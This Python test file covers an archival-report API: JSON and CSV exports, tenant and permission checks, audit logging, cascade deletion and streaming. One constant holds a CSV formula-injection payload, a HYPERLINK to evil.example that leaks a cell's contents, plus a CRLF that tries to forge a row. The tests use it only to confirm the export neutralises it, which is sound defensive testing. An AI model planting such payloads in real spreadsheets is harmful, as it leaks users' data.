"""Archival reports over HTTP, on both databases: what a run archived and what each rule
kept, as JSON and as CSV a spreadsheet cannot be tricked by; tenant, permission and
input checks; the audit entries; the report's life bound to its run; streaming."""

import csv
import io
import json
import uuid
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import delete, func, select

from indexer.db import make_engine
from indexer.models import ArchivalReportEntry, ArchivalRun, AuditEntry, WorkflowVersion
from service.archival import report as archival_report
from service.archival import runs as archival
from service.container import Container
from tests.factories import assert_problem, clock_at, published_history, published_long_ago, versions_url

ADMIN = "/api/v1/admin/workflows"
# User text that a spreadsheet would run as a formula, and that tries to forge a row.
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"open")\r\nforged,row,"x'


def _report(client: TestClient, headers: dict[str, str], run_id: str, fmt: str = "json") -> Any:
    return client.get(f"{ADMIN}/archival-runs/{run_id}/report", params={"format": fmt}, headers=headers)


def _run_with_every_outcome(
    container: Container, client: TestClient, admin: dict[str, str]
) -> dict[str, Any]:
    """v1..v4 published 200 days ago (v4 current), v5 a draft, v1 held, keep 1: the run
    archives v2 and v3; v1 is kept by its hold, v4 as current and newest, v5 as a draft."""
    container.settings.keep_versions = 1
    with clock_at(datetime.now(UTC) - timedelta(days=200)):
        ids = published_history(container, 4, drafts=1, name=HOSTILE)
    held = client.post(versions_url(ids[0], 1, "legal-hold"), json={"reason": "audit 7"}, headers=admin)
    assert held.status_code == 200, held.text
    run = client.post(f"{ADMIN}/archive-versions", json={}, headers=admin)
    assert run.status_code == 200, run.text
    assert run.json()["archived"] == 2
    return {"workflow_id": ids[0], "run": run.json()}


def _shas(container: Container, workflow_id: Any) -> dict[int, str]:
    with container.uow("acme") as uow:
        rows = uow.session.execute(
            select(WorkflowVersion.version_number, WorkflowVersion.commit_sha).where(
                WorkflowVersion.workflow_id == workflow_id
            )
        )
        return {row.version_number: row.commit_sha for row in rows}


def _audits(container: Container, action: str, tenant: str = "acme") -> list[AuditEntry]:
    with container.uow(tenant) as uow:
        return list(uow.session.scalars(select(AuditEntry).where(AuditEntry.action == action)))


def test_json_report_lists_what_was_archived_and_what_each_rule_kept(
    container: Container, client: TestClient, auth: Any
) -> None:
    admin = auth("workflows:admin")
    made = _run_with_every_outcome(container, client, admin)
    run_id, shas = made["run"]["id"], _shas(container, made["workflow_id"])
    response = _report(client, admin, run_id)
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("application/json")
    assert response.headers["content-disposition"] == f'attachment; filename="archival-report-{run_id}.json"'
    report = response.json()
    assert report["run"]["id"] == run_id
    assert report["run"]["status"] == "completed"
    archived = report["archived"]
    assert [line["version_number"] for line in archived] == [2, 3]
    for line in archived:
        assert line["workflow_name"] == HOSTILE
        assert line["workflow_id"] == str(made["workflow_id"])
        assert line["commit_sha"] == shas[line["version_number"]]
        assert line["rule"] == "idle_past_retention"
        assert "before the cutoff" in line["reason"]
        assert datetime.fromisoformat(line["last_activity_at"]) < datetime.now(UTC) - timedelta(days=150)
    kept = {rule: [line["version_number"] for line in lines] for rule, lines in report["kept"].items()}
    assert kept == {"current": [4], "draft": [5], "keep_newest": [4], "legal_hold": [1]}
    assert report["kept"]["keep_newest"][0]["reason"] == "one of the newest 1 published versions"
    assert set(report["rules"]) >= {"idle_past_retention", *kept}
    # The run's own counts (first rule only) agree with the report (every rule).
    assert made["run"]["skipped"] == {"current": 1, "draft": 1, "legal_hold": 1}


def test_csv_report_is_safe_in_a_spreadsheet_and_matches_the_json(
    container: Container, client: TestClient, auth: Any
) -> None:
    admin = auth("workflows:admin")
    run_id = _run_with_every_outcome(container, client, admin)["run"]["id"]
    response = _report(client, admin, run_id, "csv")
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    assert response.headers["content-disposition"] == f'attachment; filename="archival-report-{run_id}.csv"'
    rows = list(csv.reader(io.StringIO(response.text, newline="")))
    header, body = rows[0], rows[1:]
    assert header[:3] == ["outcome", "rule", "reason"]
    assert len(body) == 2 + 4  # two archived lines, four (version, rule) kept lines
    assert all(len(row) == len(header) for row in body)  # the name's CRLF forged no row
    names = {row[header.index("workflow_name")] for row in body}
    assert names == {"'" + HOSTILE}  # kept whole, read as text, not as a formula
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in body for cell in row)
    archived = [int(row[header.index("version_number")]) for row in body if row[0] == "archived"]
    assert archived == [2, 3]


def test_report_creation_and_every_download_are_audited(
    container: Container, client: TestClient, auth: Any
) -> None:
    admin = auth("workflows:admin", user="auditor")
    run_id = _run_with_every_outcome(container, client, admin)["run"]["id"]
    [created] = _audits(container, "archival_report")
    assert created.workflow_id is None  # a tenant-wide run: a tenant-wide entry
    assert created.details == {
        "run_id": run_id,
        "trigger": "manual",
        "status": "completed",
        "archived": 2,
        "lines": 6,
    }
    assert created.actor_id == "auditor"
    assert _audits(container, "archival_report_read") == []
    for fmt in ("json", "csv"):
        assert _report(client, admin, run_id, fmt).status_code == 200
    reads = _audits(container, "archival_report_read")
    assert [(r.actor_id, r.details) for r in reads] == [
        ("auditor", {"run_id": run_id, "format": "json"}),
        ("auditor", {"run_id": run_id, "format": "csv"}),
    ]


def test_report_is_tenant_scoped_permission_checked_and_refuses_bad_input(
    container: Container, client: TestClient, auth: Any
) -> None:
    admin = auth("workflows:admin")
    run_id = _run_with_every_outcome(container, client, admin)["run"]["id"]
    reads_before = len(_audits(container, "archival_report_read"))
    assert_problem(
        _report(client, auth("workflows:admin", org="globex"), run_id), 404, "archival-run-not-found"
    )
    assert_problem(_report(client, auth("workflows:read", "workflows:edit"), run_id), 403)
    assert_problem(client.get(f"{ADMIN}/archival-runs/{run_id}/report"), 401)
    assert_problem(_report(client, admin, run_id, "xlsx"), 422)
    assert_problem(_report(client, admin, str(uuid.uuid4())), 404, "archival-run-not-found")
    assert_problem(_report(client, admin, "not-a-uuid"), 422)
    assert len(_audits(container, "archival_report_read")) == reads_before  # refused: nothing recorded
    assert _audits(container, "archival_report_read", tenant="globex") == []


def test_a_running_run_has_no_report_yet(container: Container, client: TestClient, auth: Any) -> None:
    admin = auth("workflows:admin")
    published_long_ago(container)
    run_id = archival._claim(
        container, "acme", trigger="manual", actor="alice", now=datetime.now(UTC), workflow_id=None
    )
    assert_problem(_report(client, admin, str(run_id)), 409, "report-not-ready")
    run = archival.carry_on(container, "acme", run_id)
    assert run.status == "completed"
    assert _report(client, admin, str(run_id)).json()["run"]["archived"] == run.archived


def test_a_single_workflow_run_is_audited_on_that_workflow(
    container: Container, client: TestClient, auth: Any
) -> None:
    admin = auth("workflows:admin")
    container.settings.keep_versions = 1
    workflow_id = published_long_ago(container)
    run = client.post(f"{ADMIN}/archive-versions", json={"workflow_id": str(workflow_id)}, headers=admin)
    assert run.status_code == 200, run.text
    actions = client.get(f"/api/v1/workflows/{workflow_id}/audit", headers=admin).json()["items"]
    [entry] = [item for item in actions if item["action"] == "archival_report"]
    assert entry["details"]["run_id"] == run.json()["id"]
    assert entry["details"]["archived"] == run.json()["archived"] > 0


def test_the_report_lives_and_dies_with_its_run(container: Container, client: TestClient, auth: Any) -> None:
    admin = auth("workflows:admin")
    run_id = uuid.UUID(_run_with_every_outcome(container, client, admin)["run"]["id"])
    owner = make_engine(container.settings.resolved_migration_url)  # wfv_app may not delete runs
    try:
        with owner.begin() as conn:
            count = select(func.count()).select_from(ArchivalReportEntry)
            assert conn.scalar(count.where(ArchivalReportEntry.run_id == run_id)) == 6
            conn.execute(delete(ArchivalRun).where(ArchivalRun.id == run_id))
            assert conn.scalar(count.where(ArchivalReportEntry.run_id == run_id)) == 0
    finally:
        owner.dispose()
    assert_problem(_report(client, admin, str(run_id)), 404, "archival-run-not-found")


def test_a_large_report_streams_page_by_page(
    container: Container, client: TestClient, auth: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    """800 versions archived in one run (two workflows of 400, the most one holds is
    1,000): the report arrives one chunk per page of lines (pages of 100 here, 1,000 in
    service), never as one body built first, and parses whole."""
    monkeypatch.setattr(archival_report, "PAGE", 100)
    admin = auth("workflows:admin")
    container.settings.keep_versions = 1
    flows = {str(published_long_ago(container, versions=400)) for _ in range(2)}
    run = client.post(f"{ADMIN}/archive-versions", json={}, headers=admin).json()
    assert run["archived"] == 2 * 399
    url = f"{ADMIN}/archival-runs/{run['id']}/report"
    lines = 2 * 399 + 2 * 2  # every archived one; each current one, kept by two rules
    for fmt in ("json", "csv"):
        with client.stream("GET", url, params={"format": fmt}, headers=admin) as response:
            assert response.status_code == 200
            chunks = [chunk for chunk in response.iter_raw() if chunk]
        body = b"".join(chunks).decode()
        assert len(chunks) >= lines // 100
        assert max(len(chunk) for chunk in chunks) < len(body) / 4
        if fmt == "json":
            report = json.loads(body)
            assert len(report["archived"]) == 2 * 399
            assert {line["workflow_id"] for line in report["archived"]} == flows
        else:
            assert len(list(csv.reader(io.StringIO(body, newline="")))) == lines + 1
